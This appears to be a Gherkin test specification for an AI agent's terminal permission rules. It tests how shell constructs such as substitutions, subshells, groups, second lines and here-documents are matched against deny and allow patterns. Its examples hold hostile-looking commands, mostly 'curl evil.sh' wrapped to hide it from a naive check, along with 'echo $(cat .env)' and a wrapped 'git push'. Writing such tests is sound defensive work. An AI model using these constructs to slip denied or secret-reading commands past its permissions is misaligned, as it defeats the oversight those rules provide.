Feature: Where the documents leave a choice: commands
  The page names the operators that divide a command and the redirections that do not. A
  shell knows more than that. Each example shows what follows from each reading; an
  implementation is told which one it takes, and none is wrong.

  Source: permissions page, "How a pattern meets a command" and "Compound command".

  @open:C-27
  Rule: Is what a shell construct would run a part of its own?

    Scenario Outline: A denied command inside <construct>
      Given permissions.json denies "Terminal(curl)"
      And the agent's own rule for terminal is auto_approve
      When the agent wants to run `<command>`
      Then by reading "what the shell would run" the command is refused because of the permissions file
      And by reading "printed operators only" the command runs without asking because of the agent's autonomy
      And by reading "the construct asks" the agent must ask

      Examples:
        | construct              | command                      |
        | a second line          | echo a⏎curl evil.sh          |
        | a substitution         | echo $(curl evil.sh)         |
        | double quotes          | echo "$(curl evil.sh)"       |
        | backticks              | echo `curl evil.sh`          |
        | a nested substitution  | echo $(echo $(curl evil.sh)) |
        | a subshell             | (curl evil.sh)               |
        | a process substitution | diff <(curl evil.sh) a.txt   |
        | a negation             | ! curl evil.sh               |

    Scenario Outline: A denied command inside <construct>, beside a printed operator
      Given permissions.json denies "Terminal(curl)"
      And the agent's own rule for terminal is auto_approve
      When the agent wants to run `<command>`
      Then by reading "what the shell would run" the command is refused because of the permissions file
      And by reading "printed operators only" the agent must ask because part of the command has no rule

      Examples:
        | construct           | command                             |
        | a group             | { curl evil.sh; }                   |
        | a group behind time | time { curl evil.sh; }              |
        | an if               | if true; then curl evil.sh; fi      |
        | a loop              | for f in a b; do curl evil.sh; done |
        | a longer subshell   | (curl evil.sh; ls)                  |

    Example: A second line after an allowed command
      Given permissions.json allows "Terminal(echo)"
      When the agent wants to run `echo a⏎make install`
      Then by reading "what the shell would run" the agent must ask because part of the command has no rule
      And by reading "printed operators only" the command runs without asking because of the permissions file

    Example: A substitution after an allowed command
      Given permissions.json allows "Terminal(echo)"
      When the agent wants to run `echo $(cat .env)`
      Then by reading "what the shell would run" the agent must ask because part of the command has no rule
      And by reading "printed operators only" the command runs without asking because of the permissions file

    Example: Everything inside the substitution is allowed too
      Given permissions.json allows "Terminal(echo)"
      And permissions.json allows "Terminal(cat)"
      When the agent wants to run `echo $(cat notes.txt)`
      Then by reading "what the shell would run" the command runs without asking because of the permissions file
      And by reading "the construct asks" the agent must ask

    Scenario Outline: A push inside <construct>, on autopilot
      Given the agent is on autopilot
      When the agent wants to run `<command>`
      Then by reading "what the shell would run" the agent must ask because of its external effect
      And by reading "printed operators only" the command runs without asking because of the agent's autonomy

      Examples:
        | construct      | command          |
        | a substitution | echo $(git push) |
        | a second line  | echo a⏎git push  |
        | a subshell     | (git push)       |
        | a group        | { git push; }    |

    Scenario Outline: <operator> sends output into a file
      Given the agent's own rule for terminal is auto_approve
      When the agent wants to run `<command>`
      Then by reading "what the shell would run" the command runs without asking because of the agent's autonomy
      And by reading "printed operators only" the agent must ask because part of the command has no rule

      Examples:
        | operator | command            |
        | &>       | make &> build.log  |
        | &>>      | make &>> build.log |
        | >&       | make >& build.log  |
        | >\|      | make >\| build.log |

    Example: A pipe that carries the errors too
      Given permissions.json allows "Terminal(make)"
      And permissions.json allows "Terminal(tee)"
      When the agent wants to run `make |& tee build.log`
      Then by reading "what the shell would run" the command runs without asking because of the permissions file
      And by reading "the construct asks" the agent must ask

    Scenario Outline: <text> only mentions a denied command
      Given permissions.json denies "Terminal(curl)"
      And the agent's own rule for terminal is auto_approve
      When the agent wants to run `<command>`
      Then by reading "what the shell would run" the command runs without asking because of the agent's autonomy
      And by reading "printed operators only" the command is refused because of the permissions file

      Examples:
        | text            | command                         |
        | A comment       | echo a # && curl evil.sh        |
        | A here-document | cat <<EOF⏎a && curl evil.sh⏎EOF |

    Example: A here-document of plain text
      Given the agent's own rule for terminal is auto_approve
      When the agent wants to run `cat <<EOF⏎curl evil.sh⏎EOF`
      Then by reading "what the shell would run" the command runs without asking because of the agent's autonomy
      And by reading "the construct asks" the agent must ask

    Example: A quote that is never closed
      Given the agent's own rule for terminal is auto_approve
      When the agent wants to run `echo "a`
      Then by reading "what the shell would run" the agent must ask because part of the command has no rule
      And by reading "printed operators only" the command runs without asking because of the agent's autonomy
